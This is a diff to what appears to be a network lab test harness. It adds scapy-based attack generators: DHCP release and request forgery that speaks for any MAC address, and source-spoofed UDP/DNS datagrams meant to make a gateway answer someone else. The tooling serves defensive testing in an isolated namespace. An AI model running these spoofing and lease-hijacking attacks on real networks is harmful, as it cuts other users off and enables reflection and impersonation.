@@ -8,6 +8,10 @@ from inside a lab namespace (``ip netns exec NS python -m tests.netlab.attacks .
   pool-starving radio does, for a bounded time.
 - ``stream``: UDP datagrams and TCP SYNs to one address and port, every few
   milliseconds, for a bounded time (what a phone trying to get out sends).
+- ``dhcp-release``: a DHCPRELEASE (or, with ``--request``, an INIT-REBOOT REQUEST) for an
+  address, speaking for any MAC (``--chaddr``, ``--client-id``) from any Ethernet source.
+- ``spoof``: UDP (DNS by default) or a DHCP-port datagram from a source address that is
+  not the sender's, to get the gateway to answer someone else.
 """
 
 from __future__ import annotations
@@ -134,6 +138,55 @@ def stream(dst: str, port: int, seconds: float, every: float) -> dict[str, Any]:
     return {"sent": sent}
 
 
+def dhcp_message(
+    iface: str,
+    kind: str,
+    address: str,
+    chaddr: str,
+    client_id: str | None,
+    server: str,
+    src: str,
+) -> dict[str, Any]:
+    from scapy.all import BOOTP, DHCP, IP, UDP, Ether, get_if_hwaddr, mac2str, sendp
+
+    options: list[Any] = [("message-type", kind), ("server_id", server)]
+    if kind == "request":
+        options.append(("requested_addr", address))
+    if client_id:
+        options.append(("client_id", b"\x01" + mac2str(client_id)))
+    bootp = BOOTP(
+        chaddr=mac2str(chaddr),
+        ciaddr=address if kind == "release" else "0.0.0.0",
+        xid=random.randrange(1, 2**32),
+        flags=0x8000,
+    )
+    sendp(
+        Ether(src=get_if_hwaddr(iface), dst=BROADCAST)
+        / IP(src=src, dst="255.255.255.255" if src == "0.0.0.0" else server)
+        / UDP(sport=68, dport=67)
+        / bootp
+        / DHCP(options=[*options, "end"]),
+        iface=iface,
+        count=3,
+        verbose=False,
+    )
+    return {"sent": 3}
+
+
+def spoof(src: str, dst: str, sport: int, dport: int, count: int) -> dict[str, Any]:
+    from scapy.all import DNS, DNSQR, IP, UDP, conf
+
+    sock = conf.L3socket()
+    try:
+        for _ in range(count):  # bounded
+            query = DNS(rd=1, qd=DNSQR(qname="reflect.example.id")) if dport == 53 else b"x" * 64
+            sock.send(IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / query)
+            time.sleep(0.01)
+    finally:
+        sock.close()
+    return {"sent": count}
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(prog="python -m tests.netlab.attacks")
     sub = parser.add_subparsers(dest="attack", required=True)
@@ -152,8 +205,29 @@ def main() -> None:
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--seconds", type=float, default=5)
     p.add_argument("--every", type=float, default=0.005)
+    p = sub.add_parser("dhcp-release")
+    p.add_argument("--iface", default="eth0")
+    p.add_argument("--request", action="store_true", help="an INIT-REBOOT REQUEST instead")
+    p.add_argument("--address", required=True)
+    p.add_argument("--chaddr", required=True)
+    p.add_argument("--client-id")
+    p.add_argument("--server", required=True)
+    p.add_argument("--src", default="0.0.0.0")
+    p = sub.add_parser("spoof")
+    p.add_argument("--src", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--sport", type=int, default=40053)
+    p.add_argument("--dport", type=int, default=53)
+    p.add_argument("--count", type=int, default=20)
     args = parser.parse_args()
-    if args.attack == "garp":
+    if args.attack == "dhcp-release":
+        kind = "request" if args.request else "release"
+        out = dhcp_message(
+            args.iface, kind, args.address, args.chaddr, args.client_id, args.server, args.src
+        )
+    elif args.attack == "spoof":
+        out = spoof(args.src, args.dst, args.sport, args.dport, args.count)
+    elif args.attack == "garp":
         out = garp(args.iface, args.ip, args.mac, args.count)
     elif args.attack == "dhcp-flood":
         out = dhcp_flood(args.iface, args.seconds, args.most, args.seed)
